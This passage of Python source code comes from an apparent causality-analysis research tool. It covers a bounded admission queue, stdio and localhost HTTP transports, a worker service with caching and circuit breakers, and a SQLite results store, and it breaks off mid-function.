                    if entry.module_key == prefer_key:
                        if index == 0:
                            self._preferred_streak = 0  # the head anyway
                        else:
                            self._preferred_streak += 1
                        del self._entries[index]
                        return entry
            self._preferred_streak = 0
            return self._entries.popleft()

    # -- lifecycle -------------------------------------------------------------

    def begin_drain(self) -> None:
        """Stop admitting; queued entries remain to be drained."""
        with self._lock:
            self._draining = True
            self._available.notify_all()

    def close(self) -> None:
        with self._lock:
            self._closed = True
            self._available.notify_all()

    @property
    def draining(self) -> bool:
        with self._lock:
            return self._draining

    @property
    def depth(self) -> int:
        with self._lock:
            return len(self._entries)

    @property
    def saturated(self) -> bool:
        """Readiness-probe input: at/above the high watermark."""
        with self._lock:
            return len(self._entries) >= self.high_watermark

    def snapshot(self) -> dict:
        with self._lock:
            return {
                "depth": len(self._entries),
                "capacity": self.capacity,
                "high_watermark": self.high_watermark,
                "admitted": self.admitted,
                "shed": dict(self.shed),
                "draining": self._draining,
            }
