"""Service transports: stdin-JSONL and localhost HTTP.

Both transports are thin shells around one :class:`LdxService`; the
payloads are identical JSON objects either way.

* :class:`StdioTransport` reads one request per line from stdin and
  writes one response per line to stdout, **in request order** (so
  batch clients and the CI smoke test can diff outputs directly).
  EOF triggers a graceful drain.

* :class:`HttpTransport` binds ``127.0.0.1`` only (the service is a
  local sidecar, not a network daemon) and maps service statuses onto
  HTTP codes: ``ok`` 200, ``invalid`` 400, ``overloaded`` 429 (with a
  ``Retry-After`` header), ``unavailable`` 503, ``error`` 500.  It also
  exposes ``GET /healthz`` (liveness), ``GET /readyz`` (readiness:
  admitting and below the high watermark) and ``GET /statz``.

SIGTERM/SIGINT trigger the drain protocol on either transport: stop
admitting (late arrivals get explicit ``overloaded``/``draining``
responses), finish or checkpoint in-flight work, flush caches, exit 0.
"""

from __future__ import annotations

import json
import queue
import signal
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Optional

from repro.serve import api
from repro.serve.service import LdxService

# An in-flight run is bounded by its RunBudget; if a response still has
# not arrived after this many wall seconds something is deeply wrong and
# we answer for the worker rather than hang the client.
RESPONSE_WAIT_CAP = 600.0

_HTTP_STATUS = {
    api.STATUS_OK: 200,
    api.STATUS_INVALID: 400,
    api.STATUS_OVERLOADED: 429,
    api.STATUS_UNAVAILABLE: 503,
    api.STATUS_ERROR: 500,
}

MAX_BODY_BYTES = 1 << 20  # oversized-request guard at the transport


def install_signal_handlers(callback) -> bool:
    """Route SIGTERM/SIGINT to *callback*; False when not possible
    (non-main thread, e.g. under tests)."""
    try:
        signal.signal(signal.SIGTERM, lambda signo, frame: callback())
        signal.signal(signal.SIGINT, lambda signo, frame: callback())
        return True
    except ValueError:
        return False


class StdioTransport:
    """JSONL over stdin/stdout with in-order responses."""

    def __init__(self, service: LdxService, in_stream=None, out_stream=None) -> None:
        self.service = service
        self.in_stream = in_stream if in_stream is not None else sys.stdin
        self.out_stream = out_stream if out_stream is not None else sys.stdout
        self._tickets: "queue.Queue" = queue.Queue()
        self._stop = threading.Event()

    def request_stop(self) -> None:
        self._stop.set()
        self.service.begin_drain()

    def _reader(self) -> None:
        try:
            for line in self.in_stream:
                if self._stop.is_set():
                    break
                line = line.strip()
                if not line:
                    continue
                self._tickets.put(self.service.submit(line))
        except Exception:
            pass
        finally:
            self._tickets.put(None)  # EOF sentinel

    def serve_forever(self, handle_signals: bool = True) -> int:
        if handle_signals:
            install_signal_handlers(self.request_stop)
        self.service.start()
        reader = threading.Thread(target=self._reader, name="ldx-serve-stdin",
                                  daemon=True)
        reader.start()
        eof = False
        while not eof:
            try:
                ticket = self._tickets.get(timeout=0.1)
            except queue.Empty:
                if self._stop.is_set() and self._tickets.empty():
                    break
                continue
            if ticket is None:
                eof = True
                break
            response = ticket.wait(RESPONSE_WAIT_CAP)
            if response is None:
                response = api.error_response(
                    None, api.STATUS_ERROR, "response wait cap exceeded"
                )
            self.out_stream.write(api.encode(response) + "\n")
            self.out_stream.flush()
        # Drain: stop admitting, let workers finish admitted work, then
        # flush any responses that raced the shutdown.
        self.service.begin_drain()
        while True:
            try:
                ticket = self._tickets.get_nowait()
            except queue.Empty:
                break
            if ticket is None:
                continue
            response = ticket.wait(RESPONSE_WAIT_CAP)
            if response is not None:
                self.out_stream.write(api.encode(response) + "\n")
                self.out_stream.flush()
        self.service.drain()
        return 0


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    # The service writes structured logs; silence the default chatter.
    def log_message(self, format, *args):  # noqa: A002 (stdlib signature)
        pass

    @property
    def service(self) -> LdxService:
        return self.server.service  # type: ignore[attr-defined]

    def _reply(self, code: int, payload: dict, headers=()) -> None:
        body = (json.dumps(payload, sort_keys=True) + "\n").encode()
        self.send_response(code)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        for name, value in headers:
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self) -> None:  # noqa: N802 (stdlib casing)
        if self.path == "/healthz":
            alive = self.service.alive()
            self._reply(200 if alive else 503, {"alive": alive})
        elif self.path == "/readyz":
            ready = self.service.ready()
            self._reply(200 if ready else 503, {"ready": ready})
        elif self.path == "/statz":
            self._reply(200, self.service.stats())
        else:
            self._reply(404, {"error": f"no such path: {self.path}"})

    def do_POST(self) -> None:  # noqa: N802 (stdlib casing)
        if self.path != "/v1/infer":
            self._reply(404, {"error": f"no such path: {self.path}"})
            return
        try:
            length = int(self.headers.get("Content-Length", "0"))
        except ValueError:
            length = -1
        if length < 0 or length > MAX_BODY_BYTES:
            self._reply(413, api.error_response(
                None, api.STATUS_INVALID,
                f"body must be 0..{MAX_BODY_BYTES} bytes",
            ))
            return
        body = self.rfile.read(length)
        response = self.service.submit(body).wait(RESPONSE_WAIT_CAP)
        if response is None:
            response = api.error_response(
                None, api.STATUS_ERROR, "response wait cap exceeded"
            )
        headers = []
        if "retry_after" in response:
            headers.append(("Retry-After", str(response["retry_after"])))
        self._reply(
            _HTTP_STATUS.get(response["status"], 500), response, headers
        )


class HttpTransport:
    """Localhost-only HTTP shell around the service."""

    def __init__(self, service: LdxService, host: str = "127.0.0.1",
                 port: int = 0) -> None:
        self.service = service
        self.server = ThreadingHTTPServer((host, port), _Handler)
        self.server.daemon_threads = True
        self.server.service = service  # type: ignore[attr-defined]
        self.host, self.port = self.server.server_address[:2]

    def request_stop(self) -> None:
        self.service.begin_drain()
        # shutdown() must not run on the thread inside serve_forever.
        threading.Thread(target=self.server.shutdown, daemon=True).start()

    def announce(self, stream=None) -> None:
        """One machine-readable line so a parent process can find the
        bound (possibly ephemeral) port."""
        stream = stream if stream is not None else sys.stdout
        stream.write(json.dumps(
            {"event": "listening", "host": self.host, "port": self.port},
            sort_keys=True,
        ) + "\n")
        stream.flush()

    def serve_forever(self, handle_signals: bool = True,
                      announce_stream=None) -> int:
        if handle_signals:
            install_signal_handlers(self.request_stop)
        self.service.start()
        self.service.log({"event": "listening", "host": self.host,
                          "port": self.port})
        self.announce(announce_stream)
        try:
            self.server.serve_forever(poll_interval=0.1)
        finally:
            self.server.server_close()
            self.service.drain()
        return 0

    def close(self) -> None:
        self.server.server_close()
