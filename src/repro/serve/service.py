"""The causality service: request lifecycle, workers, drain.

``LdxService`` is the transport-independent daemon core.  One instance
owns:

* a :class:`~repro.serve.admission.AdmissionQueue` (bounded, watermark
  shedding, batch grouping) — the only gate work enters through;
* a :class:`FactoryCache` — the explicit lifecycle object for warm
  state: an LRU of :class:`~repro.core.engine.EngineFactory` keyed by
  module key, layered over the process-global content-addressed
  artifact cache.  A warm request reuses compiled closures, analysis
  artifacts and a pre-built base world; its engine state is stamped out
  per run (O(1) world clone), so requests can never contaminate each
  other;
* a :class:`~repro.serve.breaker.BreakerBoard` — per-module-key
  circuit breakers tripping on repeated *engine* failures (program
  crashes are results, not failures);
* worker threads draining the queue, each preferring its last module
  key (batch admission);
* per-request structured logs (JSON lines): request id, queue wait,
  service time, degradation rung, cache-hit flags, breaker state.

Robustness contract, request-level (the PR 1 invariant moved to the
service boundary): a request is always answered — ``ok`` (with a
degradation report and confidence rung), ``invalid``, ``overloaded``,
``unavailable`` or ``error`` — and overload, faults and deadlines
change latency and rungs, **never** the causality verdict an ``ok``
response carries.  Deadlines are enforced in the supervisor's virtual
time (:class:`~repro.core.supervisor.RunBudget`), so a timed-out
request degrades into a diagnosed partial verdict instead of hanging.

Graceful drain: :meth:`begin_drain` stops admission (new offers shed
with ``draining``), lets workers finish everything already admitted —
each run bounded by its budget, degraded runs checkpointing through
``repro/checkpoint.py`` when a checkpoint dir is configured — then
flushes the caches and reports final statistics.
"""

from __future__ import annotations

import json
import sys
import threading
import time
from collections import OrderedDict
from typing import Dict, List, Optional, TextIO

from repro.core.engine import EngineFactory
from repro.core.supervisor import Checkpointer, RunBudget
from repro.serve import api
from repro.serve.admission import Admitted, AdmissionQueue
from repro.serve.breaker import BreakerBoard
from repro.vos.faults import FaultConfig
from repro.vos.world import World


class ServeConfig:
    """Daemon tuning knobs (CLI flags map 1:1 onto these)."""

    def __init__(
        self,
        workers: int = 2,
        queue_capacity: int = 64,
        high_watermark: Optional[int] = None,
        max_deadline: float = 250_000.0,
        breaker_threshold: int = 3,
        breaker_cooldown: float = 30.0,
        max_factories: int = 32,
        checkpoint_dir: Optional[str] = None,
        log_stream: Optional[TextIO] = None,
    ) -> None:
        self.workers = max(1, workers)
        self.queue_capacity = queue_capacity
        self.high_watermark = high_watermark
        self.max_deadline = max_deadline
        self.breaker_threshold = breaker_threshold
        self.breaker_cooldown = breaker_cooldown
        self.max_factories = max_factories
        self.checkpoint_dir = checkpoint_dir
        self.log_stream = log_stream


class Ticket:
    """A pending response; transports wait on it."""

    __slots__ = ("_event", "response")

    def __init__(self) -> None:
        self._event = threading.Event()
        self.response: Optional[dict] = None

    def resolve(self, response: dict) -> "Ticket":
        self.response = response
        self._event.set()
        return self

    def wait(self, timeout: Optional[float] = None) -> Optional[dict]:
        if not self._event.wait(timeout):
            return None
        return self.response

    @property
    def done(self) -> bool:
        return self._event.is_set()


class FactoryCache:
    """Warm-construction LRU with an explicit lifecycle.

    Maps module keys to :class:`EngineFactory` instances.  ``lookup``
    either serves a cached factory (a *warm* hit: compiled module,
    plan, base world all ready) or builds one through the process-global
    content-addressed artifact cache and remembers it.  ``close``
    drops every factory and reports usage — the daemon calls it during
    drain so cache lifetime is explicit, not interpreter-exit cleanup.
    """

    def __init__(self, capacity: int = 32) -> None:
        self.capacity = max(1, capacity)
        self._lock = threading.Lock()
        self._factories: "OrderedDict[str, EngineFactory]" = OrderedDict()
        self.hits = 0
        self.misses = 0
        self.closed = False

    def contains(self, key: str) -> bool:
        with self._lock:
            return key in self._factories

    def lookup(self, key: str, builder) -> tuple:
        """(factory, was_warm).  Builds outside the lock: construction
        compiles; holding the lock would serialize every cold request."""
        with self._lock:
            if self.closed:
                raise RuntimeError("factory cache is closed")
            factory = self._factories.get(key)
            if factory is not None:
                self._factories.move_to_end(key)
                self.hits += 1
                return factory, True
            self.misses += 1
        factory = builder()
        with self._lock:
            # A racing builder may have landed first; keep the winner so
            # both callers share one base world from here on.
            existing = self._factories.get(key)
            if existing is not None:
                return existing, False
            self._factories[key] = factory
            self._factories.move_to_end(key)
            while len(self._factories) > self.capacity:
                self._factories.popitem(last=False)
        return factory, False

    def snapshot(self) -> dict:
        with self._lock:
            return {
                "factories": len(self._factories),
                "capacity": self.capacity,
                "hits": self.hits,
                "misses": self.misses,
            }

    def close(self) -> dict:
        with self._lock:
            stats = {
                "factories": len(self._factories),
                "hits": self.hits,
                "misses": self.misses,
            }
            self._factories.clear()
            self.closed = True
            return stats


def _world_from_spec(spec: dict) -> World:
    world = World(seed=spec.get("seed", 1))
    world.stdin = spec.get("stdin", "")
    for path, content in sorted(spec.get("files", {}).items()):
        world.fs.add_file(path, content)
    for address, reply in sorted(spec.get("endpoints", {}).items()):
        host, _, port_text = address.rpartition(":")
        try:
            port = int(port_text)
        except ValueError:
            raise api.RequestError(
                f"endpoint address must be HOST:PORT, got {address!r}"
            ) from None
        if not host:
            raise api.RequestError(
                f"endpoint address must be HOST:PORT, got {address!r}"
            )
        world.network.register(host, port, lambda req, reply=reply: reply)
    world.env.update(spec.get("env", {}))
    return world


class LdxService:
    """The transport-independent causality-inference daemon core."""

    def __init__(self, config: Optional[ServeConfig] = None) -> None:
        self.config = config or ServeConfig()
        self.queue = AdmissionQueue(
            capacity=self.config.queue_capacity,
            high_watermark=self.config.high_watermark,
        )
        self.factories = FactoryCache(self.config.max_factories)
        self.breakers = BreakerBoard(
            threshold=self.config.breaker_threshold,
            cooldown=self.config.breaker_cooldown,
        )
        self._checkpoints = None
        if self.config.checkpoint_dir is not None:
            from repro.checkpoint import CheckpointStore

            self._checkpoints = CheckpointStore(self.config.checkpoint_dir)
        self._log_lock = threading.Lock()
        self._threads: List[threading.Thread] = []
        self._started = False
        self._drained = threading.Event()
        # served/errors/rejected are only ever touched under _stats_lock
        # — including reads: torn snapshots (e.g. /statz observing a
        # served bump but not the matching errors bump) made the
        # counters impossible to reconcile against submissions.
        self.served = 0
        self.errors = 0
        self.rejected = 0
        self._stats_lock = threading.Lock()

    # -- lifecycle -------------------------------------------------------------

    def start(self) -> "LdxService":
        if self._started:
            return self
        self._started = True
        for index in range(self.config.workers):
            thread = threading.Thread(
                target=self._worker_loop, name=f"ldx-serve-{index}", daemon=True
            )
            thread.start()
            self._threads.append(thread)
        self.log({"event": "start", "workers": self.config.workers,
                  "queue": self.queue.snapshot()})
        return self

    def begin_drain(self) -> None:
        """Stop admitting; already-admitted work will still complete."""
        self.queue.begin_drain()
        self.log({"event": "drain-begin", "queue": self.queue.snapshot()})

    def drain(self, timeout: Optional[float] = None) -> bool:
        """Graceful shutdown: drain the queue, stop workers, flush the
        caches.  True when everything drained within *timeout*."""
        self.begin_drain()
        deadline = None if timeout is None else time.monotonic() + timeout
        for thread in self._threads:
            remaining = None
            if deadline is not None:
                remaining = max(0.0, deadline - time.monotonic())
            thread.join(remaining)
        drained = not any(thread.is_alive() for thread in self._threads)
        self.queue.close()
        factory_stats = self.factories.close()
        with self._stats_lock:
            served, errors, rejected = self.served, self.errors, self.rejected
        self.log({
            "event": "drain-complete",
            "drained": drained,
            "served": served,
            "errors": errors,
            "rejected": rejected,
            "factories": factory_stats,
            "queue": self.queue.snapshot(),
            "breakers": self.breakers.snapshot(),
        })
        self._drained.set()
        return drained

    # -- probes ----------------------------------------------------------------

    def alive(self) -> bool:
        return not self._drained.is_set()

    def ready(self) -> bool:
        """Readiness: admitting and below the high watermark."""
        return self.alive() and not self.queue.draining and not self.queue.saturated

    def stats(self) -> dict:
        with self._stats_lock:
            counters = {
                "served": self.served,
                "errors": self.errors,
                "rejected": self.rejected,
            }
        return {
            **counters,
            "queue": self.queue.snapshot(),
            "factories": self.factories.snapshot(),
            "breakers": self.breakers.snapshot(),
        }

    # -- submission ------------------------------------------------------------

    def submit(self, payload) -> Ticket:
        """Parse, admit and enqueue one request; always resolves the
        returned ticket eventually (immediately on rejection)."""
        ticket = Ticket()
        try:
            request = (
                payload
                if isinstance(payload, api.ServeRequest)
                else api.parse_request(payload)
            )
        except api.RequestError as error:
            # Echo the request id back when it is salvageable, so the
            # client can correlate the rejection (wire payloads arrive
            # as raw JSONL lines, not dicts).
            raw = payload
            if isinstance(raw, (str, bytes)):
                try:
                    raw = json.loads(raw)
                except Exception:
                    raw = None
            request_id = None
            if isinstance(raw, dict):
                candidate = raw.get("id")
                if isinstance(candidate, str):
                    request_id = candidate
            response = api.error_response(
                request_id, api.STATUS_INVALID, str(error)
            )
            self._log_rejection(request_id, api.STATUS_INVALID, str(error))
            return ticket.resolve(response)

        key = request.module_key()
        breaker = self.breakers.breaker_for(key)
        if not breaker.allow():
            response = api.error_response(
                request.id,
                api.STATUS_UNAVAILABLE,
                f"circuit open for {key}",
                retry_after=self.config.breaker_cooldown,
            )
            self._log_rejection(request.id, api.STATUS_UNAVAILABLE, key)
            return ticket.resolve(response)

        entry = Admitted(
            request=(request, ticket, breaker),
            module_key=key,
            warm=self.factories.contains(key),
            enqueued_at=time.monotonic(),
        )
        reason = self.queue.offer(entry)
        if reason is not None:
            response = api.error_response(
                request.id,
                api.STATUS_OVERLOADED,
                reason,
                retry_after=1.0,
                queue_depth=self.queue.depth,
            )
            self._log_rejection(request.id, api.STATUS_OVERLOADED, reason)
            return ticket.resolve(response)
        return ticket

    def submit_and_wait(self, payload, timeout: Optional[float] = None) -> Optional[dict]:
        return self.submit(payload).wait(timeout)

    # -- workers ---------------------------------------------------------------

    def _worker_loop(self) -> None:
        last_key: Optional[str] = None
        while True:
            entry = self.queue.take(prefer_key=last_key, timeout=0.1)
            if entry is None:
                if self.queue.draining and self.queue.depth == 0:
                    return
                continue
            last_key = entry.module_key
            request, ticket, breaker = entry.request
            started = time.monotonic()
            queue_wait = started - entry.enqueued_at
            try:
                response = self._serve(request, entry, queue_wait, started)
                failed = bool(
                    response["status"] == api.STATUS_OK
                    and response["degradation"]["engine_failures"]
                )
            except api.RequestError as error:
                response = api.error_response(
                    request.id, api.STATUS_INVALID, str(error)
                )
                failed = False  # a bad request is not an engine failure
            except Exception as error:  # never let a request kill a worker
                response = api.error_response(
                    request.id,
                    api.STATUS_ERROR,
                    f"{type(error).__name__}: {error}",
                )
                failed = True
                with self._stats_lock:
                    self.errors += 1
            if failed:
                breaker.record_failure()
            else:
                breaker.record_success()
            with self._stats_lock:
                self.served += 1
            ticket.resolve(response)

    def _factory_for(self, request: api.ServeRequest) -> tuple:
        """(factory, config, warm-flag) for one request."""
        if request.workload is not None:
            from repro.workloads import get_workload

            workload = get_workload(request.workload)
            if request.variant == "leak":
                config = workload.leak_variant()
            elif request.variant == "noleak":
                config = workload.noleak_variant()
                if config is None:
                    raise api.RequestError(
                        f"workload {request.workload!r} has no noleak variant"
                    )
            elif request.variant == "table3":
                config = workload.table3_variant()
            else:
                config = workload.config()
            factory, warm = self.factories.lookup(
                request.module_key(),
                lambda: EngineFactory.for_workload(workload, seed=request.seed),
            )
            return factory, config, warm

        def build() -> EngineFactory:
            from repro import cache
            from repro.errors import ReproError

            try:
                instrumented = cache.instrumented_for(request.source)
            except ReproError as error:
                raise api.RequestError(
                    f"source does not compile: {error}"
                ) from None
            return EngineFactory(instrumented, _world_from_spec(request.world_spec))

        factory, warm = self.factories.lookup(request.module_key(), build)
        return factory, request.config(), warm

    def _serve(
        self,
        request: api.ServeRequest,
        entry: Admitted,
        queue_wait: float,
        started: float,
    ) -> dict:
        factory, config, warm = self._factory_for(request)
        budget = RunBudget.from_deadline(
            min(request.deadline, self.config.max_deadline)
        )
        kwargs = budget.engine_kwargs()
        if request.fault_rate > 0.0:
            kwargs["faults"] = FaultConfig(
                seed=request.fault_seed, rate=request.fault_rate
            )
        if self._checkpoints is not None:
            source = request.source
            if source is None:
                from repro.workloads import get_workload

                source = get_workload(request.workload).source
            kwargs["checkpointer"] = Checkpointer(
                self._checkpoints,
                label=f"serve-{request.id}",
                seed=request.seed,
                source=source,
            )
        result = factory.run(config, **kwargs)
        service_time = time.monotonic() - started
        response = api.ok_response(
            request.id,
            result,
            timing={
                "queue_wait_s": round(queue_wait, 6),
                "service_s": round(service_time, 6),
                "dual_time": result.dual_time,
            },
            cache={"factory": "hit" if warm else "miss", "warm": entry.warm},
        )
        self.log({
            "event": "request",
            "id": request.id,
            "key": entry.module_key,
            "status": api.STATUS_OK,
            "rung": result.degradation.verdict_confidence,
            "causality": result.report.causality_detected,
            "queue_wait_ms": round(queue_wait * 1000, 3),
            "service_ms": round(service_time * 1000, 3),
            "cache_hit": warm,
            "faults_injected": len(result.degradation.faults_injected),
            "checkpoints": len(result.degradation.checkpoints),
        })
        return response

    # -- logging ---------------------------------------------------------------

    def log(self, record: Dict[str, object]) -> None:
        stream = self.config.log_stream
        if stream is None:
            stream = sys.stderr
        with self._log_lock:
            try:
                stream.write(json.dumps(record, sort_keys=True) + "\n")
                stream.flush()
            except Exception:
                pass  # logging must never take a request down

    def _log_rejection(self, request_id, status: str, reason: str) -> None:
        with self._stats_lock:
            self.rejected += 1
        self.log({
            "event": "request",
            "id": request_id,
            "status": status,
            "reason": reason,
            "queue_depth": self.queue.depth,
        })
