"""The columnar results store: every eval/chaos/bench cell, queryable.

Before this module, every experiment result died in per-run text or
JSON: re-running ``repro eval`` recomputed all ~28 workloads even when
nothing changed, and benchmark JSON artifacts had no history at all.
The store fixes both with one SQLite database (default
``.repro-cache/results.sqlite``) holding three tables:

* ``cells`` — one row per completed experiment cell (a Table 1 row, a
  Table 4 seed chunk, a chaos seed chunk, ...), keyed by the same
  content-address scheme as :mod:`repro.cache`
  (:func:`repro.cache.result_cell_key`): workload source x variant x
  schedule seed x fault seed x config fingerprint x schema tag.  The
  coordinates are real columns, so the store is queryable; the result
  object itself is a digest-verified pickle blob.  **Incremental
  re-runs fall out of the keying**: an unchanged cell's key is already
  present, so ``repro eval`` executes only absent keys and ``repro
  report`` renders every table with zero execution.
* ``runs`` — one row per recorded eval/chaos invocation: the planning
  parameters (needed to re-derive the exact cell plan when reporting)
  plus executed/reused counts.
* ``bench_history`` — append-only (bench, metric, value) samples from
  the benchmark harness and the serve-chaos storm: the perf trajectory
  as a query instead of ad-hoc ``BENCH_*.json`` files.

Robustness mirrors the artifact cache's contract: the store is an
accelerator, never a correctness dependency.  A torn write (the
database truncated mid-transaction), a corrupt pickle, a digest
mismatch or a foreign schema tag all **heal to a miss** — the damaged
state is discarded (row or whole file) and the cell is simply
recomputed.  No store failure ever fails an experiment; writes degrade
to no-ops after reporting one stderr warning.

Only the parent process touches the store: pool workers return their
cell results over the executor pipe and the parent persists them, so
there are no concurrent writers to coordinate.
"""

from __future__ import annotations

import hashlib
import json
import os
import pickle
import sqlite3
import sys
import time
from typing import Dict, Iterable, List, Optional, Sequence

from repro.cache import RESULTS_SCHEMA_TAG
from repro.errors import ReproError

DEFAULT_STORE_PATH = os.path.join(".repro-cache", "results.sqlite")

_SCHEMA = """
CREATE TABLE IF NOT EXISTS meta (
    name  TEXT PRIMARY KEY,
    value TEXT NOT NULL
);
CREATE TABLE IF NOT EXISTS cells (
    key           TEXT PRIMARY KEY,
    kind          TEXT NOT NULL,
    workload      TEXT NOT NULL,
    variant       TEXT NOT NULL DEFAULT '',
    schedule_seed INTEGER,
    fault_seed    INTEGER,
    fingerprint   TEXT NOT NULL,
    schema        TEXT NOT NULL,
    payload       BLOB NOT NULL,
    digest        TEXT NOT NULL,
    created_at    REAL NOT NULL
);
CREATE INDEX IF NOT EXISTS cells_by_kind ON cells (kind, workload, variant);
CREATE TABLE IF NOT EXISTS runs (
    id         INTEGER PRIMARY KEY AUTOINCREMENT,
    kind       TEXT NOT NULL,
    params     TEXT NOT NULL,
    planned    INTEGER NOT NULL,
    executed   INTEGER NOT NULL,
    reused     INTEGER NOT NULL,
    created_at REAL NOT NULL
);
CREATE TABLE IF NOT EXISTS bench_history (
    id         INTEGER PRIMARY KEY AUTOINCREMENT,
    bench      TEXT NOT NULL,
    metric     TEXT NOT NULL,
    value      REAL NOT NULL,
    context    TEXT NOT NULL DEFAULT '',
    created_at REAL NOT NULL
);
CREATE INDEX IF NOT EXISTS bench_by_name ON bench_history (bench, metric);
"""


class ResultsError(ReproError):
    """Raised when a report is requested from an insufficient store."""


class CellSpec:
    """One cell's identity: its content-address key plus the columnar
    coordinates stored alongside the payload."""

    __slots__ = ("key", "kind", "workload", "variant", "schedule_seed",
                 "fault_seed", "fingerprint")

    def __init__(
        self,
        key: str,
        kind: str,
        workload: str,
        variant: str = "",
        schedule_seed: Optional[int] = None,
        fault_seed: Optional[int] = None,
        fingerprint: str = "",
    ) -> None:
        self.key = key
        self.kind = kind
        self.workload = workload
        self.variant = variant
        self.schedule_seed = schedule_seed
        self.fault_seed = fault_seed
        self.fingerprint = fingerprint

    def __repr__(self) -> str:
        return (
            f"<CellSpec {self.kind}:{self.workload}:{self.variant} "
            f"key={self.key[:12]}>"
        )


class StoreStats:
    """Hit/miss/write accounting for one store instance."""

    __slots__ = ("hits", "misses", "stores", "errors", "healed")

    def __init__(self) -> None:
        self.hits = 0
        self.misses = 0
        self.stores = 0
        self.errors = 0
        self.healed = 0

    def as_dict(self) -> Dict[str, int]:
        return {name: getattr(self, name) for name in self.__slots__}


class ResultsStore:
    """SQLite-backed columnar store for experiment cells.

    ``enabled=False`` turns every operation into a no-op returning a
    miss, so callers never branch on whether a store is configured.
    """

    def __init__(self, path: str = DEFAULT_STORE_PATH, enabled: bool = True) -> None:
        self.path = path
        self.enabled = enabled
        self.stats = StoreStats()
        self._conn: Optional[sqlite3.Connection] = None

    # -- connection lifecycle --------------------------------------------------

    def _connect(self) -> Optional[sqlite3.Connection]:
        if not self.enabled:
            return None
        if self._conn is not None:
            return self._conn
        try:
            self._conn = self._open()
        except Exception:
            # Unopenable even after healing (e.g. unwritable directory):
            # disable this instance rather than fail the experiment.
            self._report_disable("cannot open results store")
        return self._conn

    def _open(self) -> sqlite3.Connection:
        directory = os.path.dirname(self.path)
        if directory:
            os.makedirs(directory, exist_ok=True)
        try:
            conn = self._init_schema(sqlite3.connect(self.path))
        except sqlite3.Error:
            # A torn write can leave the file unreadable at open time;
            # heal to an empty store (every cell becomes a miss).
            self._heal()
            conn = self._init_schema(sqlite3.connect(self.path))
        return conn

    def _init_schema(self, conn: sqlite3.Connection) -> sqlite3.Connection:
        try:
            with conn:
                conn.executescript(_SCHEMA)
                row = conn.execute(
                    "SELECT value FROM meta WHERE name = 'schema'"
                ).fetchone()
                if row is None:
                    conn.execute(
                        "INSERT INTO meta (name, value) VALUES ('schema', ?)",
                        (RESULTS_SCHEMA_TAG,),
                    )
                elif row[0] != RESULTS_SCHEMA_TAG:
                    # A store from another schema version: orphan it
                    # wholesale instead of unpickling incompatible rows.
                    conn.close()
                    self._heal()
                    return self._init_schema(sqlite3.connect(self.path))
        except sqlite3.Error:
            try:
                conn.close()
            except Exception:
                pass
            raise
        return conn

    def _heal(self) -> None:
        """Discard the damaged database file; the next open recreates
        it empty, so every lookup degrades to a miss."""
        self.stats.healed += 1
        for suffix in ("", "-journal", "-wal", "-shm"):
            try:
                os.unlink(self.path + suffix)
            except OSError:
                pass

    def _report_disable(self, reason: str) -> None:
        self.stats.errors += 1
        self.enabled = False
        self._conn = None
        print(f"results store: {reason} ({self.path}); continuing without it",
              file=sys.stderr)

    def _execute(self, query: str, params: Sequence = ()) -> Optional[list]:
        """Run one query, healing the store on database corruption.

        Returns the fetched rows, or None when the store is unusable
        (the caller treats None as a miss / no-op).
        """
        conn = self._connect()
        if conn is None:
            return None
        try:
            with conn:
                return conn.execute(query, params).fetchall()
        except sqlite3.DatabaseError:
            # Corruption discovered mid-use (torn write landed after
            # open): drop the file and reopen empty.
            try:
                conn.close()
            except Exception:
                pass
            self._conn = None
            self._heal()
            retry = self._connect()
            if retry is None:
                return None
            try:
                with retry:
                    return retry.execute(query, params).fetchall()
            except sqlite3.Error:
                self._report_disable("persistent database error")
                return None
        except sqlite3.Error:
            self.stats.errors += 1
            return None

    def close(self) -> None:
        if self._conn is not None:
            try:
                self._conn.close()
            except Exception:
                pass
            self._conn = None

    def __enter__(self) -> "ResultsStore":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()

    # -- cells -----------------------------------------------------------------

    def get_cell(self, key: str):
        """The result stored under *key*, or None (missing or corrupt
        rows are misses; corrupt rows are also deleted)."""
        rows = self._execute(
            "SELECT payload, digest, schema FROM cells WHERE key = ?", (key,)
        )
        if not rows:
            self.stats.misses += 1
            return None
        payload, digest, schema = rows[0]
        try:
            if schema != RESULTS_SCHEMA_TAG:
                raise ValueError("schema tag mismatch")
            if hashlib.sha256(payload).hexdigest() != digest:
                raise ValueError("payload digest mismatch")
            result = pickle.loads(payload)
        except Exception:
            # A damaged row must become a miss, never a wrong result.
            self.stats.errors += 1
            self._execute("DELETE FROM cells WHERE key = ?", (key,))
            self.stats.misses += 1
            return None
        self.stats.hits += 1
        return result

    def get_cells(self, keys: Iterable[str]) -> Dict[str, object]:
        """{key -> result} for every *present and intact* key."""
        found: Dict[str, object] = {}
        for key in keys:
            result = self.get_cell(key)
            if result is not None:
                found[key] = result
        return found

    def put_cell(self, spec: CellSpec, result) -> None:
        """Persist one completed cell; supersedes any row that shares
        the cell's coordinates under a stale fingerprint (the old
        config's result can never be reported again)."""
        if not self.enabled:
            return
        try:
            payload = pickle.dumps(result)
        except Exception:
            self.stats.errors += 1
            return
        digest = hashlib.sha256(payload).hexdigest()
        self._execute(
            "DELETE FROM cells WHERE kind = ? AND workload = ? AND variant = ? "
            "AND COALESCE(schedule_seed, -1) = COALESCE(?, -1) "
            "AND COALESCE(fault_seed, -1) = COALESCE(?, -1) AND key != ?",
            (spec.kind, spec.workload, spec.variant, spec.schedule_seed,
             spec.fault_seed, spec.key),
        )
        written = self._execute(
            "INSERT OR REPLACE INTO cells "
            "(key, kind, workload, variant, schedule_seed, fault_seed, "
            " fingerprint, schema, payload, digest, created_at) "
            "VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
            (spec.key, spec.kind, spec.workload, spec.variant,
             spec.schedule_seed, spec.fault_seed, spec.fingerprint,
             RESULTS_SCHEMA_TAG, payload, digest, time.time()),
        )
        if written is not None:
            self.stats.stores += 1

    def cell_count(self, kind: Optional[str] = None) -> int:
        if kind is None:
            rows = self._execute("SELECT COUNT(*) FROM cells")
        else:
            rows = self._execute(
                "SELECT COUNT(*) FROM cells WHERE kind = ?", (kind,)
            )
        return rows[0][0] if rows else 0

    # -- runs ------------------------------------------------------------------

    def record_run(
        self, kind: str, params: Dict[str, object],
